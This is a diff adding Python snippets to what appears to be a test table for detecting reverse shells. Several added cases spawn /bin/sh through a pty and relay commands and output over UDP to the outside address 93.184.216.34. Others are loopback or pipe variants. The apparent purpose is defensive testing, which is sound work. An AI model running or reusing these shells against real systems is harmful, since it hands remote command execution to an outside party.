@@ -72,6 +72,21 @@ pid, master = pty.fork()
 if pid == 0: os.execv('/bin/sh', ['sh'])
 copy(master, s.fileno())
 """,
+    "UDP without connect": """
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
+s.sendto(b"echo hello; exit\\n", ("93.184.216.34", 80))
+pid, master = pty.fork()
+if pid == 0: os.execv('/bin/sh', ['sh'])
+os.read(master, 1) # the shell's prompt
+os.write(master, s.recvfrom(1000)[0])
+s.sendto(os.read(master, 1000), ("93.184.216.34", 80))
+""",
+    "UDP over IPv6, by sendmsg": """
+s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+pid, master = pty.fork()
+if pid == 0: os.execv('/bin/sh', ['sh', '-c', 'echo hello; sleep 5'])
+s.sendmsg([os.read(master, 1000)], [], 0, ("::ffff:93.184.216.34", 80))
+""",
     "the other end is sent to its holder": """
 a, b = socket.socketpair()
 if os.fork() == 0:
@@ -100,6 +115,21 @@ s.send(b"exit\\n")
 pid, master = pty.fork()
 if pid == 0: os.execv('/bin/sh', ['sh'])
 copy(master, t.fileno())
+""",
+    "a terminal, and datagrams over loopback": """
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 0))
+pid, master = pty.fork()
+if pid == 0: os.execv('/bin/sh', ['sh', '-c', 'echo hello'])
+s.sendto(os.read(master, 1000), s.getsockname()); os.write(1, s.recvfrom(1000)[0])
+try: socket.getaddrinfo("nobody.example", 80)
+except OSError: pass
+""",
+    "datagrams, and a terminal of another process": """
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+go, gone = os.pipe()
+if os.fork() == 0:
+    os.read(go, 1); s.sendto(b"x", ("93.184.216.34", 80)); os._exit(0)
+pty.spawn(['/bin/sh', '-c', 'echo hello']); os.write(gone, b"x"); os.wait()
 """,
     "a program over pipes, and a connection": "s = connect()\nprint(subprocess.run(['/bin/sh', '-c', 'echo hello'], capture_output=True, stdin=subprocess.DEVNULL).stdout)",
     "what was received goes to a file": "s = connect()\ns.shutdown(1)\nsubprocess.run(['cat'], stdin=s, stdout=open('got', 'w'))",
